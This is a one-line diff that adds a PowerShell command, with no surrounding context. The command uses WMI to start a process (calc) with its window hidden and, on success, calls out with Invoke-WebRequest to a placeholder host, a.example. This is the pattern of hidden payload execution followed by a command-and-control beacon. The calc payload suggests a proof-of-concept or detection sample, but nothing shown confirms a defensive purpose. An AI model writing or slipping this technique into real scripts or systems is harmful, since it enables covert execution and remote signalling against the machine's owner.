@@ -1,0 +1,1 @@
+$u=([wmiclass]'Win32_ProcessStartup').CreateInstance(); $u.ShowWindow=0; $c=[wmiclass]'\\.\root\cimv2:Win32_Process'; $r=$c.Create('calc /6',$null,$u); if ($r.ReturnValue -eq 0) { iwr http://a.example/7 }
